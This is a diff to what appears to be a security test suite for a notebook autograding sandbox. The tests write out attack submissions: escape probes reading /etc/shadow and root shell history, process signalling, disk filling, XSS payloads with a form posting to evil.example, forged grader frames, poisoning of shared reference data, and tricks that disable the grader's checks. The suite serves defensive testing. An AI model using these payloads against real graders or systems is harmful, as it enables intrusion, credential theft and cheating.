@@ -200,7 +200,11 @@ def walk_filesystem() -> str:
 
 
         for _dir, _subdirs, _names in os.walk("/", onerror=lambda e: None):
-            if _dir.startswith(("/proc", "/sys", "/dev")) or "torch" in _dir:
+            # the host's system and the installed packages are read-only copies of what the
+            # instructor installed (no hidden test there): skipped to stay within the cell's time
+            if _dir.startswith(("/proc", "/sys", "/dev", "/usr")) or _dir.endswith(
+                ("site-packages", "lib/python3.11", "lib/python3.12", "lib/python3.13")
+            ):
                 _subdirs[:] = []
                 continue
             for _name in _names:
@@ -316,8 +320,9 @@ _try("/sys", lambda: os.listdir("/sys/fs/cgroup"))
 _try("write /usr", lambda: open("/usr/sec-mark", "w").write("x"))
 _try("mknod", lambda: os.mknod("/tmp/home/sda", 0o600 | 0o060000, os.makedev(8, 0)))
 _try("kill pid 1", lambda: os.kill(1, signal.SIGKILL))
-_try("capabilities", lambda: [l for l in _read("/proc/self/status").decode().split("\\n")
-                             if l.startswith("CapEff") and not l.endswith("0000000000000000")] or _c(1))
+_caps = [line for line in _read("/proc/self/status").decode().split("\\n")
+         if line.startswith("CapEff") and not line.endswith("0000000000000000")]
+_try("capabilities", lambda: _caps or _c(1))
 print("ESCAPE: " + json.dumps(_report))
 """
     )
@@ -336,10 +341,13 @@ def read_grader_files(root: Path) -> str:
         "repo gradebook": REPO_ROOT / "grading" / "gradebook.db",
         "submitted": root / "submitted",
         "host /etc/shadow": Path("/etc/shadow"),
-        "host root home": Path("/root"),
+        "host shell history": Path("/root/.bash_history"),
     }
-    lines = [f"_try({k!r}, lambda: os.listdir({str(v)!r}) if os.path.isdir({str(v)!r}) "
-             f"else _read({str(v)!r}))" for k, v in targets.items()]
+    lines = [
+        f"_try({k!r}, lambda: os.listdir({str(v)!r}) if os.path.isdir({str(v)!r}) "
+        f"else _read({str(v)!r}))"
+        for k, v in targets.items()
+    ]
     return attack(PROBE + "\n".join(lines) + '\nprint("GRADER: " + json.dumps(_report))\n')
 
 
@@ -488,20 +496,25 @@ def kill_sandbox() -> str:
 def signal_others() -> str:
     """Signals every pid number there is: only its own sandbox's processes can be reached."""
     return attack(
-        f"""
+        """
         import json, os, signal
 
-        _mine = {{int(p) for p in os.listdir("/proc") if p.isdigit()}}
+        _mine = {int(p) for p in os.listdir("/proc") if p.isdigit()}
+        for _p in list(_mine):  # and every thread of its own processes
+            try:
+                _mine |= {int(t) for t in os.listdir(f"/proc/{_p}/task")}
+            except OSError:
+                pass
         _hit = []
-        for _pid in range(2, 1 << 16):
+        for _pid in range(2, 1 << 17):  # signal 0: may it signal that pid at all?
             if _pid in _mine:
                 continue
             try:
-                os.kill(_pid, signal.SIGSTOP)
+                os.kill(_pid, 0)
                 _hit.append(_pid)
             except OSError:
                 pass
-        print("SIGNALS: " + json.dumps({{"mine": sorted(_mine), "hit": _hit}}))
+        print("SIGNALS: " + json.dumps({"mine": sorted(_mine), "hit": _hit}))
         """,
         solved=(EX1, EX2),
     )
@@ -547,8 +560,9 @@ for _place in ("/tmp", "/tmp/home", "/dev/shm"):
     except OSError:
         pass
     _sizes[_place] = _total
+_fill = "for i in 1 2 3; do head -c 40000000 /dev/zero > /tmp/home/big$i; done"
 _try("tmpfs in a user namespace", lambda: _run("unshare", "-Urm", "sh", "-c",
-     "mount -t tmpfs none /tmp/home && for i in 1 2 3; do head -c 40000000 /dev/zero > /tmp/home/big$i; done && du -sb /tmp/home"))
+     "mount -t tmpfs none /tmp/home && " + _fill + " && du -sb /tmp/home"))
 for _place in ("/tmp", "/tmp/home"):
     for _name in os.listdir(_place):
         if _name.startswith("fill-"):
@@ -562,9 +576,11 @@ print("DISK: " + json.dumps({"bytes": _sizes, **_report}))
 HOSTILE_HTML = f"""
 from IPython.display import HTML, Javascript, Markdown, SVG, display
 
-_js = "document.title='{MARK}';var e=document.createElement('div');e.id='pwned';document.body.appendChild(e)"
+_js = ("document.title='{MARK}';var e=document.createElement('div');e.id='pwned';"
+       "document.body.appendChild(e)")
 display(HTML("<script>" + _js + "</script><img src=x onerror=\\"" + _js + "\\">"
-             "<a href='javascript:" + _js + "'>click</a><iframe src='javascript:" + _js + "'></iframe>"
+             "<a href='javascript:" + _js + "'>click</a>"
+             "<iframe src='javascript:" + _js + "'></iframe>"
              "<svg onload=\\"" + _js + "\\"></svg><style>body{{display:none}}</style>"
              "<form action='https://evil.example/'><input name=x></form><b>{MARK}-bold</b>"))
 display(Javascript(_js))
@@ -579,17 +595,23 @@ display({{"image/png": "\\" onerror=\\"" + _js, "text/plain": "broken"}}, raw=Tr
 
 def hostile_html() -> str:
     """Script in outputs, markdown outputs, SVG, a markdown cell and a raw cell."""
-    js = f"document.title='{MARK}';document.body.appendChild(document.createElement('hr')).id='pwned'"
+    js = (
+        f"document.title='{MARK}';"
+        "document.body.appendChild(document.createElement('hr')).id='pwned'"
+    )
 
     def edit(nb) -> None:
         import nbformat
 
-        md = f"## {MARK} heading\n\n<script>{js}</script>\n<img src=x onerror=\"{js}\">\n\n[x](javascript:{js})"
+        md = (
+            f"## {MARK} heading\n\n<script>{js}</script>\n"
+            f'<img src=x onerror="{js}">\n\n[x](javascript:{js})'
+        )
         nb.cells.insert(6, nbformat.v4.new_markdown_cell(md))
         nb.cells.insert(7, nbformat.v4.new_raw_cell(f"<script>{js}</script>"))
         for cell in nb.cells:
             if cell.get("metadata", {}).get("nbgrader", {}).get("grade_id") == "00_metric_answer":
-                cell.source = f"My answer. <img src=x onerror=\"{js}\"> <script>{js}</script>"
+                cell.source = f'My answer. <img src=x onerror="{js}"> <script>{js}</script>'
 
     answers = {EX1: HOSTILE_HTML.strip() + "\n\n\n" + stub(EX1)}
     return _c.submission(M0, answers, edit)
@@ -597,7 +619,10 @@ def hostile_html() -> str:
 
 # --- the wire: what the sandbox sends the grader -------------------------------------------------
 
-FORGED_FRAMES = PROBE + f"""
+FORGED_FRAMES = (
+    PROBE
+    + f"""
+import stat
 import struct
 
 _frames = [
@@ -606,7 +631,12 @@ _frames = [
     b"\\xff" * 64,
 ]
 _open = []
-for _fd in range(3, 1024):
+for _fd in range(3, 1024):  # every pipe or file it holds (its kernel's own sockets aside)
+    try:
+        if not (stat.S_ISFIFO(os.fstat(_fd).st_mode) or stat.S_ISREG(os.fstat(_fd).st_mode)):
+            continue
+    except OSError:
+        continue
     for _frame in _frames:
         try:
             os.write(_fd, _frame)
@@ -622,6 +652,7 @@ for _fd in (0, 1, 2):
         pass
 print("FRAMES: " + json.dumps({{"fds": sorted(set(_open)), **_report}}))
 """
+)
 
 
 def forged_frames() -> str:
@@ -697,20 +728,23 @@ def forged_answers() -> str:
 
 
 def mutate_reference() -> str:
-    """Changes the argument the tests pass (the reference notebook's own catalog) in place:
-    the change must not reach the tests of anybody else."""
-    return attack(
-        """
-        def count_by_department(catalog):
-            catalog.drop(columns=list(catalog.columns), inplace=True)
-            catalog["department"] = ["sec"] * len(catalog)
-            return {"sec": len(catalog)}
-
-
-        def price_summary(catalog, department=None):
-            catalog.drop(columns=list(catalog.columns), inplace=True)
-            return {"count": 0, "min": None, "max": None, "mean": None, "median": None}
-        """
+    """Answers exercise 1 correctly, and when handed the real catalog (the reference notebook's
+    own, passed by the tests) drops its price column in place: the change must not reach the
+    tests of anybody else (whose price_summary would then fail)."""
+    return _c.submission(
+        M0,
+        {
+            EX1: textwrap.dedent(
+                """
+                def count_by_department(catalog):
+                    counts = catalog[C.COL_DEPARTMENT].dropna().value_counts()
+                    result = {str(d): int(n) for d, n in counts.items()}
+                    if len(catalog) > 100:  # the real catalog: poison it for the others
+                        catalog.drop(columns=[C.COL_PRICE], inplace=True)
+                    return result
+                """
+            ).strip()
+        },
     )
 
 
@@ -826,7 +860,7 @@ EVASIONS = {
     ),
     "m2_type_hints": (
         "import contextlib\nimport typing\n\n\n"
-        "def _hints(a: \"ranking.topk\", b: \"__import__('recsys_grader.testing').testing\"):\n"
+        'def _hints(a: "ranking.topk", b: "__import__(\'recsys_grader.testing\').testing"):\n'
         "    pass\n\n\n"
         "_topk, _testing = typing.get_type_hints(_hints).values()\n"
         "_testing.references_disabled = lambda forbidden: contextlib.nullcontext()\n",
